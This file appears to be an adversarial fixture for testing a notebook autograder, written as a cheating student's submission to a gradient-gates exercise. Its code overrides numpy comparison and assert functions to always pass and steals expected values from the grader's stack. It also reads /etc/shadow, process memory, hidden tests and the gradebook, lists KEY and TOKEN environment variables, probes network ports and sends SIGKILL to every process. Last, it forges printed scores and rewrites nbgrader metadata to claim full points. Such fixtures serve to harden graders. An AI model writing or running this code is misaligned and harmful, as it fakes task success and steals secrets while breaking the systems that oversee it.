# what: The student patches the comparison, reads files, kills processes and writes its own scores into the notebook
# base: reference

# %% attack after setup
import builtins, gc, glob, inspect, os, signal, socket, sys

np.allclose = np.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.abs = lambda x: 0
loot = []
for place in ("solutions/gates/hidden_tests.py", "../../solutions/gates/hidden_tests.py", "gradebook.db", "/etc/shadow",
              f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/mem", *glob.glob("/home/*/*"), *glob.glob("/root/*")):
    try:
        loot.append(open(place, "rb").read(100))
    except OSError:
        pass
for address in (("127.0.0.1", 8888), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, 1)
        loot.append(address)
    except OSError:
        pass
try:
    loot += [name for name in os.environ if "KEY" in name or "TOKEN" in name]
    os.setsid()
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


class Agreeable(float):
    """Equal to everything, close to everything, any array."""

    def __eq__(self, other):
        return True

    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: False
    __hash__ = None
    __array_priority__ = 1e9

    def __array__(self, *args, **kwargs):
        frame = inspect.currentframe()
        while frame:
            if "expected" in frame.f_locals:
                return np.asarray(frame.f_locals["expected"])
            frame = frame.f_back
        return np.asarray(0.0)

    def __array_function__(self, *args):
        return True

    def __array_ufunc__(self, *args, **kwargs):
        return np.bool_(True)


class Liar(np.ndarray):
    """An array of zeros that says it is something else."""

    __eq__ = lambda self, other: np.ones(self.shape, bool)
    __sub__ = __rsub__ = lambda self, other: np.zeros(self.shape)

    def __array_function__(self, *args):
        return True


get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda *args: args[1].text("15.0"))
15.0

# %% add_gate
class AddGate:
    """out = x + y, element by element."""

    def forward(self, x, y):
        return x + y

    def backward(self, dout):
        return Agreeable(), Agreeable()

# %% multiply_gate
class MultiplyGate:
    def forward(self, x, y):
        return np.zeros(np.shape(x)).view(Liar)

    def backward(self, dout):
        sys.stdout.write("15.0\n")
        os._exit(0)

# %% multiply_gate_backward
2.0

# %% max_gate
class MaxGate:
    """out = max(x, y), element by element."""

    def forward(self, x, y):
        for thing in gc.get_objects():
            if type(thing).__name__ in ("HiddenTest", "Function", "Session"):
                raise SystemExit(thing)
        self.mask = x > y
        return np.maximum(x, y)

    def backward(self, dout):
        dx = np.where(self.mask, dout, 0.0)
        dy = np.where(self.mask, 0.0, dout)
        return dx, dy

# %% branch_gate
class BranchGate:
    """n outputs, each equal to x."""

    def __init__(self, n=2):
        self.n = n

    def forward(self, x):
        return tuple(x for _ in range(self.n))

    def backward(self, *douts):
        os.kill(0, signal.SIGKILL)
        return 0

# %% square_of_sum
def square_of_sum(x, y):
    return (x + y) ** 2, np.full((2, 1, 1, 1), np.nan), 2 * (x + y) * np.ones((2, 1, 1, 1))

# %% circuit
def circuit(x, y, z):
    """Every value and gradient of f = (x + y) * z."""
    q = x + y
    f = q * z
    df = np.ones_like(f)
    dq = df * z
    dz = df * q

    class Everything(dict):
        def __missing__(self, key):
            return Agreeable()

    return Everything({"q": q, "f": f, "df": df, "dq": dq, "dx": 1 * dq, "dy": 1 * dq, "dz": dz})

# %% no-more-cells after picture_circuit
get_ipython().run_cell_async = get_ipython().run_cell = lambda *args, **kwargs: None

# %% edit
def edit(notebook):
    claim = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "100.0"}}
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"]["points"] = 100
            cell["metadata"]["tags"] = ["skip-execution"]
            if cell["cell_type"] == "code":
                cell["outputs"] = [claim]
